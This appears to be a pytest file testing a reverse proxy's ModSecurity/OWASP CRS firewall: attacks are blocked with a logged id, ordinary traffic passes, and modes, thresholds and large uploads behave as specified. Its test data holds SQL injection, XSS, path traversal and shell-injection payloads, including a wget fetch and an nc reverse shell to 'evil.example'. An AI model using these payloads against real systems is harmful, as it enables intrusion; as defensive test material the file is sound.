"""Gatekeeper: the WAF (issue 5, /tmp/gk/spec.md "routes[].waf"):
libmodsecurity with the OWASP CRS (Debian's modsecurity-crs 3.3).

On a route with `waf: on` (block mode, paranoia 1, anomaly threshold 5,
body_limit 128KiB) SQL injection, XSS, path traversal and shell injection
are answered 403 with a body naming an id "waf-XXXXXXXX" that moat's error
log line carries too, and nothing of the request reaches the backend.
Ordinary traffic (browser-like GETs, form posts with apostrophes, a JSON
API POST, a multipart upload) passes untouched. detect mode logs and
passes; a route without waf passes everything; paranoia and
anomaly_threshold are applied; a 1 MiB upload is not held up by the 128
KiB inspection limit.

The attack and ordinary requests were checked against the CRS 3.3.4 rules
(libmodsecurity 3.0.9, paranoia 1, threshold 5) outside moat when this
file was written: each attack scores >= 5, each ordinary request 0.
"""

import hashlib
import json
import re
import time
from urllib.parse import quote

import pytest

from harness import Client, sha256_body, t, wait_for

UA = "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"
ACCEPT = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
WAF_ID = re.compile(rb"waf-[0-9A-Za-z]{8}(?![0-9A-Za-z])")


def req(method, target, headers=(), body=b""):
    """Request bytes as a browser would send them (Host, User-Agent,
    Accept first), Connection: close."""
    hs = [("Host", "example.test"), ("User-Agent", UA), ("Accept", ACCEPT)]
    names = {n.lower() for n, _ in headers}
    hs = [(n, v) for n, v in hs if n.lower() not in names] + list(headers)
    if body:
        hs.append(("Content-Length", str(len(body))))
    hs.append(("Connection", "close"))
    return (f"{method} {target} HTTP/1.1\r\n" + "".join(f"{n}: {v}\r\n" for n, v in hs)
            + "\r\n").encode() + body


FORM = [("Content-Type", "application/x-www-form-urlencoded")]
q = quote

ATTACKS = [
    pytest.param(req("GET", "/search?q=" + q("1' OR '1'='1")), id="sqli-or"),
    pytest.param(req("GET", "/items?id=" + q("1 UNION SELECT username, password FROM users--")), id="sqli-union"),
    pytest.param(req("POST", "/login", FORM, b"user=admin&pass=" + q("' or 1=1-- ").encode()), id="sqli-form-body"),
    pytest.param(req("GET", "/search?q=" + q("<script>alert(document.cookie)</script>")), id="xss-script"),
    pytest.param(req("GET", "/c?x=" + q("<img src=x onerror=alert(1)>")), id="xss-img-onerror"),
    pytest.param(req("POST", "/comment", FORM, b"text=" + q("<svg/onload=alert(1)>").encode()), id="xss-form-body"),
    pytest.param(req("GET", "/download?file=" + q("../../../../etc/passwd")), id="traversal"),
    pytest.param(req("GET", "/download?file=..%2f..%2f..%2fetc%2fshadow"), id="traversal-encoded"),
    pytest.param(req("GET", "/ping?host=" + q("127.0.0.1; cat /etc/passwd")), id="shell-semicolon"),
    pytest.param(req("GET", "/ping?host=" + q("$(wget http://evil.example/x.sh)")), id="shell-subst"),
    pytest.param(req("GET", "/ping?host=" + q("x | nc -e /bin/sh evil.example 4444")), id="shell-pipe-nc"),
]

MP_BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
MULTIPART = (f"--{MP_BOUNDARY}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHoliday photo\r\n"
             f"--{MP_BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"beach.png\"\r\n"
             "Content-Type: image/png\r\n\r\n").encode() + b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4 \
    + f"\r\n--{MP_BOUNDARY}--\r\n".encode()

ORDINARY = [
    ("home", req("GET", "/", [("Accept-Language", "en-US,en;q=0.5"), ("Accept-Encoding", "gzip, deflate, br"),
                              ("Cookie", "session=abc123; theme=dark")])),
    ("static-js", req("GET", "/static/app.3f9a2c.js", [("Accept", "*/*"), ("Referer", "http://example.test/")])),
    ("css", req("GET", "/static/site.css?v=12", [("Accept", "text/css,*/*;q=0.1")])),
    ("image", req("GET", "/images/logo.png", [("Accept", "image/avif,image/webp,*/*")])),
    ("search", req("GET", "/search?q=" + q("how to bake bread") + "&page=2&sort=relevance")),
    ("product", req("GET", "/products/1234?color=red&size=M")),
    ("unicode-path", req("GET", "/wiki/" + q("Zürich") + "?lang=de")),
    ("dates", req("GET", "/events?from=2024-01-01&to=2024-12-31&tz=Europe%2FParis")),
    ("email-param", req("GET", "/users?email=" + q("alice+news@example.com"))),
    ("arithmetic", req("GET", "/calc?expr=" + q("2 + 3 * (4 - 1)"))),
    ("ajax", req("GET", "/api/v1/feed?limit=20&cursor=eyJpZCI6MTIzfQ",
                 [("X-Requested-With", "XMLHttpRequest"), ("Accept", "application/json")])),
    ("words-select", req("GET", "/search?q=" + q("select a color for the new sofa"))),
    ("quoted-text", req("GET", "/quotes?author=" + q("Martin Luther King Jr.") + "&text=" + q('"I have a dream"'))),
    ("conditional", req("GET", "/page.html", [("If-None-Match", '"5f1c-1a2b"'),
                                               ("If-Modified-Since", "Wed, 21 Oct 2015 07:28:00 GMT")])),
    ("range", req("GET", "/video.mp4", [("Range", "bytes=0-1023")])),
    ("head", req("HEAD", "/index.html")),
    ("options-cors", req("OPTIONS", "/api/orders", [("Origin", "http://example.test"),
                                                     ("Access-Control-Request-Method", "POST")])),
    ("form-apostrophes", req("POST", "/comments", FORM, (
        "name=" + q("Seán O'Brien") + "&comment=" + q("It's great, isn't it? I'd say it's the best one we've tried.")
    ).encode())),
    ("form-apostrophes-2", req("POST", "/contact", FORM, (
        "email=" + q("dan.o'neil@example.com") + "&message=" + q("Don't forget the 5 o'clock meeting; we'll discuss Q3 & Q4.")
    ).encode())),
    ("form-login", req("POST", "/login", FORM, b"user=alice&pass=correct%20horse%20battery%20staple&remember=on")),
    ("json-api", req("POST", "/api/orders", [("Content-Type", "application/json"), ("Accept", "application/json")],
                     json.dumps({"customer": "O'Hara", "items": [{"sku": "A-1", "qty": 2}],
                                 "note": "leave at the door, please"}).encode())),
    ("json-api-2", req("POST", "/api/search", [("Content-Type", "application/json; charset=utf-8")],
                       json.dumps({"query": "shoes", "filters": {"size": [42, 43], "brand": "Acme"}}).encode())),
    ("multipart-upload", req("POST", "/upload", [("Content-Type", f"multipart/form-data; boundary={MP_BOUNDARY}")],
                             MULTIPART)),
]


def send(port, raw, source=None):
    with Client(port, source=source) as c:
        c.send(raw)
        method = raw.split(b" ", 1)[0].decode()
        return c.read_response(method=method)


def waf_moat(make_moat, backends, waf=True, routes=None, **extra):
    cfg = {"routes": routes or [{"upstream": "app", "waf": waf}]}
    cfg.update(extra)
    return make_moat(backends, cfg)


def assert_blocked(m, backend, raw):
    n0 = len(backend.requests)
    r = send(m.port, raw)
    assert r.status == 403, f"{raw[:100]!r}: {r.status} {r.body[:200]!r}"
    ids = WAF_ID.findall(r.body)
    assert ids, f"no waf-XXXXXXXX id in the 403 body: {r.body[:300]!r}"
    wid = ids[0].decode()
    wait_for(lambda: wid in m.errlog, t(3), what=f"{wid} in moat's error log")
    time.sleep(t(0.05))
    assert not any(q.done for q in backend.requests[n0:]), (
        f"the backend got a complete blocked request: {backend.raw_requests[n0:]!r}")
    return wid


# --------------------------------------------------------------------------
# Block mode


@pytest.mark.parametrize("raw", ATTACKS)
def test_attack_blocked_with_an_id_in_body_and_log(backend, make_moat, raw):
    m = waf_moat(make_moat, [backend])
    assert_blocked(m, backend, raw)
    if not raw.startswith(b"POST"):
        assert backend.bytes_received == 0, backend.raw_requests


def test_ids_are_distinct_per_block(backend, make_moat):
    m = waf_moat(make_moat, [backend])
    ids = {assert_blocked(m, backend, ATTACKS[i % 3].values[0]) for i in range(6)}
    assert len(ids) == 6, ids


def test_zero_false_positives(backend, make_moat):
    """23 ordinary requests: all reach the backend, none blocked."""
    m = waf_moat(make_moat, [backend])
    assert len(ORDINARY) >= 20
    bad = []
    for name, raw in ORDINARY:
        r = send(m.port, raw)
        if r.status != 200:
            bad.append((name, r.status, r.body[:200]))
    assert not bad, f"ordinary requests refused: {bad}"
    assert len(backend.requests) == len(ORDINARY)
    assert "waf-" not in m.errlog, m.errlog[-2000:]


def test_ordinary_requests_on_one_keepalive_connection(backend, make_moat):
    m = waf_moat(make_moat, [backend])
    with Client(m.port) as c:
        for name, raw in ORDINARY[:10]:
            c.send(raw.replace(b"Connection: close\r\n", b""))
            method = raw.split(b" ", 1)[0].decode()
            r = c.read_response(method=method)
            assert r.status == 200, (name, r)


def test_backend_receives_ordinary_request_bodies_intact(make_backend, make_moat):
    b = make_backend(sha256_body())
    m = waf_moat(make_moat, [b])
    for name, raw in ORDINARY:
        if not raw.startswith(b"POST"):
            continue
        body = raw.split(b"\r\n\r\n", 1)[1]
        r = send(m.port, raw)
        assert r.status == 200, (name, r)
        assert json.loads(r.body)["sha256"] == hashlib.sha256(body).hexdigest(), name


# --------------------------------------------------------------------------
# Modes and settings


def test_detect_mode_logs_and_passes(backend, make_moat):
    m = waf_moat(make_moat, [backend], waf={"mode": "detect"})
    before = m.count("waf")
    for p in ATTACKS[:4]:
        r = send(m.port, p.values[0])
        assert r.status == 200, (p.id, r)
        assert not WAF_ID.search(r.body), r.body[:200]
    assert len(backend.requests) == 4
    assert backend.requests[0].target == "/search?q=" + q("1' OR '1'='1")
    wait_for(lambda: m.count("waf") >= before + 4, t(3),
             what="a waf line per detected attack in the error log:\n" + m.errlog[-2000:])
    # ordinary requests are not logged as detections
    n = m.count("waf")
    for name, raw in ORDINARY[:5]:
        assert send(m.port, raw).status == 200, name
    time.sleep(t(0.2))
    assert m.count("waf") == n, m.errlog[-2000:]


def test_route_without_waf_passes_everything(backend, make_moat):
    m = waf_moat(make_moat, [backend], routes=[{"path": "/guarded", "upstream": "app", "waf": True},
                                                {"upstream": "app"}])
    for p in ATTACKS:
        r = send(m.port, p.values[0])
        assert r.status == 200, (p.id, r)
    assert len(backend.requests) == len(ATTACKS)
    r = send(m.port, req("GET", "/guarded?q=" + q("1' OR '1'='1")))
    assert r.status == 403


def test_anomaly_threshold(backend, make_moat):
    """Threshold 10: one critical rule (5) passes, four (20) are blocked."""
    m = waf_moat(make_moat, [backend], waf={"mode": "block", "anomaly_threshold": 10})
    assert send(m.port, req("GET", "/search?q=" + q("1' OR '1'='1"))).status == 200
    assert send(m.port, req("GET", "/items?id=" + q("1 UNION SELECT username, password FROM users--"))).status == 403


def test_paranoia_level(backend, make_moat):
    """"1 or 1" scores only from paranoia 2 on (rule 942390)."""
    attack = req("GET", "/s?q=" + q("1 or 1"))
    m1 = waf_moat(make_moat, [backend], waf={"paranoia": 1})
    assert send(m1.port, attack).status == 200
    m2 = waf_moat(make_moat, [backend], waf={"paranoia": 2})
    assert send(m2.port, attack).status == 403


def test_explicit_defaults_same_as_on(backend, make_moat):
    m = waf_moat(make_moat, [backend], waf={"mode": "block", "paranoia": 1, "anomaly_threshold": 5,
                                             "body_limit": "128KiB", "crs": "/usr/share/modsecurity-crs"})
    assert_blocked(m, backend, ATTACKS[0].values[0])
    assert send(m.port, ORDINARY[0][1]).status == 200


# --------------------------------------------------------------------------
# Large bodies


LOREM = b"Lorem ipsum dolor sit amet, consectetur adipiscing elit. "


@pytest.mark.parametrize("kind", ["form", "multipart"])
def test_large_upload_not_stalled(make_backend, make_moat, kind):
    """1 MiB with body_limit 128KiB: inspected up to the limit, the rest
    streamed; the backend gets every byte, quickly."""
    b = make_backend(sha256_body())
    m = waf_moat(make_moat, [b])
    if kind == "form":
        text = (LOREM * 20000)[:1 << 20]
        body = b"title=report&content=" + text.replace(b" ", b"+").replace(b",", b"%2C")
        ctype = "application/x-www-form-urlencoded"
    else:
        filedata = (b"line of a log file, nothing to see here 0123456789\n" * 30000)[:1 << 20]
        body = (b"--XyZ123\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.log\"\r\n"
                b"Content-Type: text/plain\r\n\r\n" + filedata + b"\r\n--XyZ123--\r\n")
        ctype = "multipart/form-data; boundary=XyZ123"
    start = time.monotonic()
    r = send(m.port, req("POST", "/upload", [("Content-Type", ctype)], body))
    elapsed = time.monotonic() - start
    assert r.status == 200, r
    got = json.loads(r.body)
    assert (got["length"], got["sha256"]) == (len(body), hashlib.sha256(body).hexdigest())
    assert elapsed < t(2), f"1 MiB upload took {elapsed:.2f}s"


def test_large_upload_streamed_in_pieces(make_backend, make_moat):
    """4 MiB of form data sent in 64 KiB writes: completes promptly."""
    b = make_backend(sha256_body())
    m = waf_moat(make_moat, [b], timeouts={"drain": "1s"})
    size = 4 << 20
    head = req("POST", "/upload", FORM)[:-2] + b"Content-Length: %d\r\n\r\n" % size
    block = (b"data=" + LOREM.replace(b" ", b"+") * 1200)[:65536]
    start = time.monotonic()
    with Client(m.port, timeout=t(5)) as c:
        c.send(head)
        left = size
        while left:
            piece = block[:min(left, len(block))]
            c.send(piece)
            left -= len(piece)
        r = c.read_response()
    elapsed = time.monotonic() - start
    assert r.status == 200, r
    assert json.loads(r.body)["length"] == size
    assert elapsed < t(3), f"4 MiB upload took {elapsed:.2f}s"


@pytest.mark.parametrize("size", [40000, 100000, 1 << 20])
def test_body_arriving_after_the_head_not_stalled(make_backend, make_moat, size):
    """The head first, the body 200 ms later (as a client that waits a
    moment, or one whose body is in other segments, sends it): inspected
    and forwarded at once, whether it fits in body_limit or not."""
    b = make_backend(sha256_body())
    m = waf_moat(make_moat, [b], timeouts={"drain": "1s"})   # a stuck request must not hold up the stop
    body = (b"data=" + LOREM.replace(b" ", b"+") * (size // len(LOREM) + 1))[:size]
    head = req("POST", "/upload", FORM)[:-2] + b"Content-Length: %d\r\n\r\n" % size
    with Client(m.port, timeout=t(5)) as c:
        c.send(head)
        time.sleep(0.2)
        start = time.monotonic()
        try:
            c.send(body)
            r = c.read_response()
        except OSError as e:
            raise AssertionError(f"stalled: {e!r}; the backend got {b.bytes_received} bytes") from None
        elapsed = time.monotonic() - start
    assert r.status == 200, r
    assert json.loads(r.body)["sha256"] == hashlib.sha256(body).hexdigest()
    assert elapsed < t(2), f"{size} bytes took {elapsed:.2f}s"


def test_attack_in_body_within_limit_blocked_beside_big_binary_route(make_backend, make_moat):
    b = make_backend(sha256_body())
    m = waf_moat(make_moat, [b], waf={"body_limit": "128KiB"})
    body = b"padding=" + b"a" * 1000 + b"&q=" + q("1' OR '1'='1").encode()
    r = send(m.port, req("POST", "/form", FORM, body))
    assert r.status == 403
    assert WAF_ID.search(r.body)
    assert not any(x.done for x in b.requests)


def test_waf_on_written_as_in_the_spec(backend, make_moat):
    """`waf: on` exactly as the spec writes it (a plain YAML scalar)."""
    text = (f"workers: 1\nlog: {{level: info, error: stderr, access: stdout}}\n"
            f"listeners:\n  - listen: 127.0.0.1:@PORT@\n"
            f"upstreams:\n  app:\n    servers: [{backend.addr}]\n"
            f"routes:\n  - path: /\n    upstream: app\n    waf: on\n")
    m = make_moat(text=text)
    assert_blocked(m, backend, ATTACKS[0].values[0])
    assert send(m.port, ORDINARY[0][1]).status == 200
